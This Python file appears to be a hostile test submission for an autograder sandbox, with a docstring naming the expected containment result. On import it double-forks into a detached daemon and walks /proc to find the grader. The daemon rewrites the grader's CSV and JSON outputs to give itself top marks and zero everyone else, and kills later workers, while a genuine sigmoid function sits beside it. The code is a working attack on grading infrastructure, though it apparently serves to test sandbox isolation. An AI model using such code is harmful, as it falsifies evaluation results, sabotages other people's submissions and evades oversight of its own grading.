"""Attack: a daemon (double fork + setsid) that outlives the submission and acts later.

At import the file starts a daemon that leaves the worker's process group
and session. The daemon waits until the grader (the ancestor whose command
line names --out / --json-dir) has exited, or 4 s, then:
- rewrites the batch's outputs named on the grader's command line
  (``--out grades.csv``: every row gets the full total; ``--json-dir D``:
  D/*.json get score 0 for everyone else, 1000 for this file);
- SIGKILLs every new worker it can see (children of the zygote: the next
  submission of the same job slot);
- leaves the mark /tmp/fchostile-daemon-alive-<pid>.
It exits on its own after ~15 s. The daemon also tries to exec
``/bin/sh -c 'sleep 12' fchostile-daemon`` in a grandchild so that a
survivor is visible by name. sigmoid is honest.

Expected verdict: nothing of the daemon survives the submission (no
process, no mark file), the CSV / JSON written by the grader are unchanged
seconds after the batch, the neighbour keeps full marks; the hostile file
gets at most its sigmoid point.
"""
import json
import os
import signal
import time

import numpy as np


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as fh:
            st = fh.read()
        return int(st[st.rindex(b")") + 2:].split()[1])
    except (OSError, ValueError):
        return 0


def _argv(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            return [a.decode("utf-8", "replace") for a in fh.read().split(b"\0")]
    except OSError:
        return []


def _find():
    zyg = _ppid(os.getpid())
    grader, outs = 0, []
    p = zyg
    for _ in range(3):
        p = _ppid(p)
        if p <= 1:
            break
        argv = _argv(p)
        for i, a in enumerate(argv[:-1]):
            if a in ("--out", "--json-dir"):
                grader = p
                outs.append((a, argv[i + 1]))
    return zyg, grader, outs


def _rewrite(outs):
    for opt, path in outs:
        try:
            if opt == "--out":
                with open(path) as fh:
                    lines = fh.read().splitlines()
                with open(path, "w") as fh:
                    fh.write("\n".join(lines[:1] + [l.replace(",0.0,", ",1.0,") for l in lines[1:]]) + "\n")
            else:
                for f in os.listdir(path):
                    full = os.path.join(path, f)
                    with open(full, "w") as fh:
                        json.dump({"score": 1000 if "daemon" in f else 0, "output": "rewritten by a daemon", "tests": []}, fh)
        except OSError:
            pass


def _daemon_body(zyg, grader, outs, me):
    start = time.monotonic()
    while time.monotonic() - start < 4.0 and grader and os.path.exists(f"/proc/{grader}"):
        for d in os.listdir("/proc"):
            if d.isdigit() and int(d) != me and int(d) != os.getpid() and _ppid(int(d)) == zyg:
                try:
                    os.kill(int(d), signal.SIGKILL)  # a worker started after this submission
                except OSError:
                    pass
        time.sleep(0.05)
    time.sleep(0.5)
    _rewrite(outs)
    try:
        with open(f"/tmp/fchostile-daemon-alive-{os.getpid()}", "w") as fh:
            fh.write("survived\n")
    except OSError:
        pass
    time.sleep(max(0.0, 15.0 - (time.monotonic() - start)))


def _start():
    zyg, grader, outs = _find()
    me = os.getpid()
    print(f"FCH grader_found={bool(grader)}", flush=True)
    print(f"FCH outputs={len(outs)}", flush=True)
    try:
        pid = os.fork()
    except OSError as e:
        print(f"FCH fork=failed {e.errno}", flush=True)
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    if os.fork() == 0:
                        try:
                            os.execv("/bin/sh", ["sh", "-c", "sleep 12", "fchostile-daemon"])
                        finally:
                            os._exit(0)
                    _daemon_body(zyg, grader, outs, me)
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    print("FCH daemon=started", flush=True)


_start()


def sigmoid(x):
    x = np.asarray(x, dtype=np.float64)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
